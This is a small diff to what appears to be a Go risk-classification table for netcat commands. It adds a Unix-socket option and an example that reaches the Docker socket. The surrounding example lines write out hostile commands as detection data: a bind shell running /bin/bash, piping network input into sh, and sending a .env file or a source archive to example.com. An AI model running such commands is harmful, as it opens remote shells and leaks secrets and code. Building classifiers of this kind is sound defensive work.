@@ -86,7 +86,7 @@ var netTools = []Entry{
 	},
 	{
 		Name: "nc ncat netcat nc.openbsd nc.traditional", Source: "nc(1), OpenBSD; nc(1), traditional; ncat(1), Nmap 7.95", Level: high, Categories: network, Operands: "host text...", Stdin: SendsIt, Out: Download,
-		Options: `-* -e,--exec=:exec+executes+critical --sh-exec=:run+executes+critical -c,--lua-exec=:executes+critical -o,--output,--hex-dump=:write -p,--source-port= -s,--source= -w,--wait= -q= -i,--idle-timeout= -g= -G= -I= -O= -P= -T= -X,--proxy-type= -x,--proxy= -b= -m,--max-conns= -d,--delay= -M= -V= -W= -Z= --ssl-cert,--ssl-key=:read --ssl-trustfile=:look --allow= --deny= --allowfile,--denyfile=:look --proxy-auth=:sendable -h:info`,
+		Options: `-* -e,--exec=:exec+executes+critical --sh-exec=:run+executes+critical -c,--lua-exec=:executes+critical -o,--output,--hex-dump=:write -p,--source-port= -s,--source= -w,--wait= -q= -i,--idle-timeout= -g= -G= -I= -O= -P= -T= -X,--proxy-type= -x,--proxy= -b= -m,--max-conns= -d,--delay= -M= -V= -W= -Z= -U,--unixsock:system+executes --ssl-cert,--ssl-key=:read --ssl-trustfile=:look --allow= --deny= --allowfile,--denyfile=:look --proxy-auth=:sendable -h:info`,
 		Examples: `
 			high NETWORK_RISK | nc -zv example.com 443
 			high NETWORK_RISK | nc -l 4444
@@ -95,6 +95,7 @@ var netTools = []Entry{
 			critical NETWORK_RISK EXEC_ARBITRARY | nc -lvp 4444 -e /bin/bash
 			critical NETWORK_RISK FS_CONFIG_SECRETS | nc example.com 80 < .env
 			critical NETWORK_RISK EXEC_ARBITRARY | nc -l 4444 | sh
+			high SYSTEM_IMPACT | nc -U /var/run/docker.sock
 			critical NETWORK_RISK | tar cz src | nc example.com 4444`,
 	},
 	{
